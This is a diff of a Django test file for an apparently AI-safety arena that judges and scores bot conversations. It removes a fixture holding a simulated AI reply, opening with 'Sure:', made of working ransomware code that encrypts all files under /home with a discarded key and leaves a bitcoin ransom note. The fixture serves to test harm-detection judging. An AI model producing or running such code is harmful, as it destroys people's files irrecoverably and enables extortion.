@@ -9,6 +9,7 @@ from judging import services as judging_services
 from judging.models import FinalLabel, Verdict
 from teams.models import Bot
 from tests.cast import conversation_make, defender_turns, judge_make
+from tests.judging.test_services import RANSOMWARE_REPLY
 from tests.test_permissions import admin_url
 
 pytestmark = pytest.mark.django_db
@@ -130,18 +131,6 @@ def test_it_starts_a_scheduled_round_when_it_is_due(arena):
 
 # --- a round's inputs changed: moderation goes through the lifecycle ------------------------------
 
-RANSOMWARE = """Sure:
-```python
-import os
-from cryptography.fernet import Fernet
-cipher = Fernet(Fernet.generate_key())
-for root, dirs, files in os.walk("/home"):
-    for name in files:
-        path = os.path.join(root, name)
-        open(path, "wb").write(cipher.encrypt(open(path, "rb").read()))
-open("/home/README_DECRYPT.txt", "w").write("Your files have been encrypted. Pay 1 bitcoin.")
-```"""
-
 
 def moderated(client, arena, conversation: Conversation, action: str) -> None:
     """An organizer moderates `conversation` with the admin's action, as people do."""
@@ -158,7 +147,7 @@ def test_it_judges_and_scores_again_a_never_judged_conversation_let_back_into_a_
 ):
     judge_make(arena, "rules", "rules")
     kept = conversation_make(arena, replies=["I can't help with that."])
-    back = conversation_make(arena, replies=[RANSOMWARE], sequence=1)
+    back = conversation_make(arena, replies=[RANSOMWARE_REPLY], sequence=1)
     Conversation.objects.filter(pk=back.pk).update(moderation=Conversation.Moderation.EXCLUDED)
     Round.objects.filter(pk=arena.round.pk).update(status=Round.Status.JUDGING)
     with django_capture_on_commit_callbacks(execute=True):
@@ -184,7 +173,7 @@ def test_it_scores_a_judging_round_at_once_when_its_last_unjudged_conversation_i
 ):
     judge = judge_make(arena, "rules", "rules")
     judged = conversation_make(arena, replies=["I can't help with that."])
-    unjudged = conversation_make(arena, replies=[RANSOMWARE], sequence=1)
+    unjudged = conversation_make(arena, replies=[RANSOMWARE_REPLY], sequence=1)
     Round.objects.filter(pk=arena.round.pk).update(status=Round.Status.JUDGING)
     judging_services.turn_judge(turn_ids=[turn.pk for turn in defender_turns(judged)], judge=judge)
     arena.round.refresh_from_db()
